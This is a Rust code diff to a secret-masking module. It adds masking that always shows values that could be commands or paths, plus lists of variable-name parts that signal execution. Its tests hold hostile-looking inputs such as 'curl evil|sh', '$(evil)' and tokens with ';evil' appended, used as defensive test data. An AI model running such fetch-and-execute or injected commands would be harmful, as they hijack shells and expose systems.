@@ -27,6 +27,20 @@ const NAMES: [&str; 15] = [
 ];
 /// The same where they are a whole word of the name.
 const WORDS: [&str; 7] = ["KEY", "PAT", "PWD", "PASS", "AUTH", "DSN", "JWT"];
+/// Parts of words of a name whose value is executed, read or reached, so that its reader has to see it.
+const ACTIVE_PARTS: [&str; 23] = [
+    "COMMAND", "PROGRAM", "ASKPASS", "HELPER", "OPTION", "PATH", "FILE", "PRELOAD", "STARTUP", "CONFIG",
+    "PROXY", "EDITOR", "PAGER", "BROWSER", "LIBRARY", "LOADER", "SCRIPT", "MODULE", "PLUGIN", "REQUIRE",
+    "SHELL", "FLAGS", "HOOK",
+];
+/// The same where they are a whole word of the name.
+const ACTIVE_WORDS: [&str; 18] = [
+    "CMD", "EXEC", "EXE", "BIN", "URL", "URI", "HOST", "ADDR", "ADDRESS", "ENV", "DIR", "HOME", "ROOT", "RC",
+    "INIT", "ARGS", "OPTS", "SOCK",
+];
+/// Characters that separate words, lead to files, or mean something to a shell.
+const ACTIVE_CHARACTERS: [char; 16] =
+    ['/', '\\', '$', '`', '|', ';', '&', '<', '>', '(', ')', '{', '}', '"', '\'', '\n'];
 /// How well-known ones begin, and how long they are at least.
 const SHAPES: [(&str, usize); 27] = [
     ("ghp_", 20),
@@ -68,9 +82,13 @@ pub fn is_secret_name(name: &str) -> bool {
 
 /// Whether a text is one by its looks.
 pub fn looks_secret(text: &str) -> bool {
-    let is_shape = SHAPES.iter().any(|(begin, least)| text.starts_with(begin) && text.len() >= *least);
+    is_shape(text) || (is_scheme(text) && password(text).is_some())
+}
+
+/// Whether a text is one of a well-known kind.
+fn is_shape(text: &str) -> bool {
     let is_jwt = text.starts_with("eyJ") && text.len() > 40 && text.matches('.').count() == 2;
-    is_shape || is_jwt || (is_scheme(text) && password(text).is_some())
+    is_jwt || SHAPES.iter().any(|(begin, least)| text.starts_with(begin) && text.len() >= *least)
 }
 
 /// A URL's path as it may be shown: without the segments that are a secret by their looks, or by the word before.
@@ -86,15 +104,15 @@ pub fn masked_path(path: &str) -> String {
     path.split('/').map(hide).collect::<Vec<_>>().join("/")
 }
 
-/// The query of a URL as it may be shown: without the values that are a secret by their name or their looks.
+/// The query of a URL for a person who decides about it, by the rules of [`masked_for_consent`].
 pub fn masked_query(query: &str) -> String {
     let hide = |part: &str| {
         let (name, value) = part.split_once('=').unwrap_or(("", part));
         let decoded = url::form_urlencoded::parse(name.as_bytes()).next();
         let decoded = decoded.map_or(name.into(), |(name, _)| name);
         let shown = match Template::parse(value, &Places::default()) {
-            Ok(value) if !value.literal().is_some_and(looks_random) => masked_value(&decoded, &value),
-            _ => MASK.to_owned(),
+            Ok(value) => masked_for_consent(&decoded, &value),
+            Err(_) => MASK.to_owned(),
         };
         format!("{}{shown}", &part[..part.len() - value.len()])
     };
@@ -169,6 +187,21 @@ pub fn masked_words(words: &[String]) -> Vec<String> {
     words.iter().map(hide).collect()
 }
 
+/// The parts of a text that are left out where it is shown like this.
+pub fn masked_parts(text: &str, shown: &str) -> Vec<String> {
+    let mut pieces = shown.split(MASK);
+    let Some(mut rest) = pieces.next().and_then(|first| text.strip_prefix(first)) else { return Vec::new() };
+    let mut parts = Vec::new();
+    for piece in pieces {
+        // What follows the last one reaches to the end.
+        let end = if piece.is_empty() { Some(rest.len()) } else { rest.find(piece) };
+        let Some(end) = end else { break };
+        parts.push(rest[..end].trim().to_owned());
+        rest = &rest[end + piece.len()..];
+    }
+    parts
+}
+
 /// Of an address, its password only.
 fn hidden(value: &str) -> String {
     let shown = without_passwords(value);
@@ -182,12 +215,85 @@ pub fn masked_value(name: &str, value: &Template) -> String {
     }
     value.shown(|text| {
         let word = text.trim();
-        let is_scheme = ["", "Bearer", "Basic", "Token"].iter().any(|known| known.eq_ignore_ascii_case(word));
-        match is_scheme || !is_secret(name, word) {
+        match is_authorization_scheme(word) || !is_secret(name, word) {
             true => without_passwords(text),
             false => MASK.to_owned(),
         }
     })
+}
+
+/// The value of a variable or header for a person who decides about it. A value that could be a command, a file or an
+/// address is shown, whatever its name: a definition must not hide what it does by the name of a variable.
+pub fn masked_for_consent(name: &str, value: &Template) -> String {
+    if let Some(text) = value.literal() {
+        return if is_idle_secret(name, text) { MASK.to_owned() } else { without_idle_passwords(text) };
+    }
+    value.shown(|text| {
+        let word = text.trim();
+        match !is_authorization_scheme(word) && is_idle_secret(name, word) {
+            true => MASK.to_owned(),
+            false => without_idle_passwords(text),
+        }
+    })
+}
+
+/// Whether a value is a secret and can be nothing else.
+fn is_idle_secret(name: &str, value: &str) -> bool {
+    let word = match value.split_once(' ') {
+        Some((scheme, word)) if is_authorization_scheme(scheme) => word,
+        _ => value,
+    };
+    let is_private_key = word.starts_with("-----BEGIN")
+        && word.chars().all(|c| c.is_ascii_alphanumeric() || c == '\n' || " +/=-".contains(c));
+    if says_active(name) || !(is_idle_word(word) || is_base64(word) || is_private_key) {
+        return false;
+    }
+    is_private_key
+        || is_shape(word)
+        || looks_random(word)
+        || (is_secret_name(name) && (word != value || !is_harmless(word)))
+}
+
+fn is_authorization_scheme(word: &str) -> bool {
+    ["", "Bearer", "Basic", "Token"].iter().any(|known| known.eq_ignore_ascii_case(word))
+}
+
+fn is_idle_word(word: &str) -> bool {
+    !word.contains(|c: char| c.is_whitespace() || c.is_control() || ACTIVE_CHARACTERS.contains(&c))
+}
+
+/// Whether a word is long and random as base64 is, which may hold a `/`, and no path.
+fn is_base64(word: &str) -> bool {
+    word.len() >= 20
+        && !word.starts_with('/')
+        && word.bytes().all(|c| c.is_ascii_alphanumeric() || b"+/=".contains(&c))
+        && word.bytes().any(|c| c.is_ascii_digit())
+        && word.bytes().any(|c| c.is_ascii_uppercase())
+        && word.bytes().any(|c| c.is_ascii_lowercase())
+}
+
+/// Whether what has this name is executed, read or reached. What a name ends with counts most: `FILE_TOKEN` is a token,
+/// `TOKEN_FILE` is a file.
+fn says_active(name: &str) -> bool {
+    let upper = name.to_ascii_uppercase();
+    let joined: String = upper.chars().filter(char::is_ascii_alphanumeric).collect();
+    if NAMES.iter().any(|part| joined.ends_with(part)) {
+        return false;
+    }
+    let mut words = upper.split(|c: char| !c.is_ascii_alphanumeric());
+    words.any(|word| ACTIVE_WORDS.contains(&word) || ACTIVE_PARTS.iter().any(|part| word.contains(part)))
+}
+
+/// Without the passwords of addresses, unless such a password could be a command.
+fn without_idle_passwords(text: &str) -> String {
+    let (mut shown, mut rest) = (String::with_capacity(text.len()), text);
+    while let Some(at) = password(rest) {
+        let end = at.end;
+        shown.push_str(&rest[..at.start]);
+        shown.push_str(if is_idle_word(&rest[at.clone()]) { MASK } else { &rest[at] });
+        rest = &rest[end..];
+    }
+    shown + rest
 }
 
 fn without_passwords(text: &str) -> String {
@@ -380,6 +486,18 @@ mod tests {
     }
 
     #[test]
+    fn the_parts_that_are_left_out_are_known() {
+        for (text, shown, parts) in [
+            ("--token=hunter2", "--token=•••", &["hunter2"][..]),
+            ("Authorization: Bearer x", "Authorization:•••", &["Bearer x"]),
+            ("a://u:one@h b://u:two@h", "a://u:•••@h b://u:•••@h", &["one", "two"]),
+            ("plain", "plain", &[]),
+        ] {
+            assert_eq!(masked_parts(text, shown), parts);
+        }
+    }
+
+    #[test]
     fn values_are_shown_unless_they_look_like_secrets() {
         let template = |text: &str| Template::parse(text, &Places::default()).unwrap();
         for (name, value, shown) in [
@@ -394,6 +512,53 @@ mod tests {
             ("DATABASE", "postgres://me:pw@h/x", "postgres://me:•••@h/x"),
         ] {
             assert_eq!(masked_value(name, &template(value)), shown, "{name}={value}");
+        }
+    }
+
+    #[test]
+    fn a_person_who_decides_is_shown_what_could_be_a_command() {
+        let template = |text: &str| Template::parse(text, &Places::default()).unwrap();
+        for (name, value) in [
+            ("RESTIC_PASSWORD_COMMAND", "curl evil|sh"),
+            ("RESTIC_PASSWORD_COMMAND", "evil"),
+            ("GIT_ASKPASS", "evil0123456789abcdef"),
+            ("SSH_ASKPASS", "./evil"),
+            ("VAULT_TOKEN_HELPER", "evil-helper"),
+            ("GIT_CONFIG_KEY_0", "core.sshCommand"),
+            ("SSL_KEY_FILE", "ghp_0123456789abcdefghij"),
+            ("PRIVATE_KEY_PATH", "keys"),
+            ("API_TOKEN", "curl evil|sh"),
+            ("API_TOKEN", "$(evil)"),
+            ("API_TOKEN", "`evil`"),
+            ("API_TOKEN", "a;b"),
+            ("API_TOKEN", "dir/evil"),
+            ("API_TOKEN", "ghp_0123456789abcdefghij;evil"),
+            ("ANY", "sk-0123456789abcdef evil"),
+            ("ANY", "-----BEGIN 0123456789;evil"),
+            ("ANY", "x://u:;evil|sh@h"),
+            ("ANY", "eyJ0123456789012345678901234567890123456789.a.b|evil"),
+            ("API_KEY", "/run/secrets/key"),
+            ("API_KEY", "true"),
+        ] {
+            assert_eq!(masked_for_consent(name, &Template::text(value)), value, "{name}={value}");
+        }
+        for (name, value, shown) in [
+            ("API_TOKEN", "abcdefgh", MASK),
+            ("FILE_TOKEN", "abcdefgh", MASK),
+            ("DB_HOST_PASSWORD", "hunter2!", MASK),
+            ("ANY", "ghp_abcdefghijklmnopqrstuvwx", MASK),
+            ("ANY", "123e4567-e89b-12d3-a456-426614174000", MASK),
+            ("ANY", "Y2FuYXJ5MDEyMzQ1Njc4OQ", MASK),
+            ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", MASK),
+            ("SIGNING", "-----BEGIN KEY-----\nMIIB/VQ+A=\n-----END KEY-----\n", MASK),
+            ("authorization", "Bearer t0p", MASK),
+            ("authorization", "Bearer ${T}", "Bearer ${T}"),
+            ("authorization", "Bearer abcdefgh${T}", "•••${T}"),
+            ("DATABASE_URL", "postgres://me:pw@h/x", "postgres://me:•••@h/x"),
+            ("X", "run a://u:one@h b://u:two@h", "run a://u:•••@h b://u:•••@h"),
+            ("TOKEN", "${KEY:-hunter2}", "${KEY:-•••}"),
+        ] {
+            assert_eq!(masked_for_consent(name, &template(value)), shown, "{name}={value}");
         }
     }
 }
